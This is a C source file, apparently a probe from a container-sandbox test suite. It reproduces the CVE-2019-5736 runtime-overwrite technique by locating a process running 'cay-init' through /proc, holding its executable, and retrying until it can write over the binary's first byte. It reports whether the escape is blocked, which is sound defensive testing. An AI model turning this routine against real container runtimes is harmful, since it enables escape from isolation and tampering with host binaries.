/* SPDX-License-Identifier: Apache-2.0 */

/* A program that runs can be reached by /proc/PID/exe of whoever runs it, and once the
 * last of them has ended it can be opened for writing: so runc was overwritten from
 * inside (CVE-2019-5736).  Here: wait for a process that runs cay-init, hold on to its
 * program, write the first byte over itself as soon as nobody runs it. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "probe.h"

enum { TRIES = 800 };

static void wait_a_little(void)
{
    const struct timespec time = {.tv_nsec = 1000000};

    nanosleep(&time, NULL);
}

/* Of any process but PID 1 that runs cay-init. */
static int find_program(void)
{
    DIR *directory = opendir("/proc");
    char path[300], target[64];
    int fd = -1;

    for (struct dirent *entry; directory && fd < 0 && (entry = readdir(directory));) {
        snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
        ssize_t len = readlink(path, target, sizeof target - 1);
        target[len > 0 ? len : 0] = '\0';
        if (strstr(target, "cay-init"))
            fd = open(path, O_PATH | O_CLOEXEC);
    }
    if (directory)
        closedir(directory);
    return fd;
}

/* A program of ours under that name, from memory that nobody sealed. */
static void start_own(void)
{
    static char text[1 << 16];
    int from = open("/usr/bin/sleep", O_RDONLY | O_CLOEXEC);
    int program = memfd_create("cay-init", MFD_CLOEXEC);

    for (ssize_t got; (got = read(from, text, sizeof text)) > 0;)
        if (write(program, text, (size_t)got) != got)
            return;
    close(from);
    if (fork() == 0) {
        char *argv[] = {(char[]){"sleep"}, (char[]){"0.3"}, NULL}, *env[] = {NULL};
        fexecve(program, argv, env);
        _exit(127);
    }
    close(program);
}

static struct answer overwrite(int program)
{
    char path[64];
    int fd = -1;

    snprintf(path, sizeof path, "/proc/self/fd/%d", program);
    for (int tries = 0; tries < TRIES && fd < 0; tries++) {
        fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd < 0 && errno != ETXTBSY)
            return answer_path(fd);
        (void)waitpid(-1, NULL, WNOHANG);
        if (fd < 0)
            wait_a_little();
    }
    if (fd < 0)
        return answer_make(BLOCKED, ETXTBSY, "always in use");
    return answer_call(pwrite(fd, "\177", 1, 0));
}

struct answer attack_program(const char *which)
{
    int program = -1;

    if (strcmp(which, "own-exe") == 0)
        start_own();
    for (int tries = 0; tries < TRIES && program < 0; tries++) {
        program = find_program();
        if (program < 0)
            wait_a_little();
    }
    if (program < 0)
        return answer_make(BLOCKED, EACCES, "never in reach");
    return overwrite(program);
}
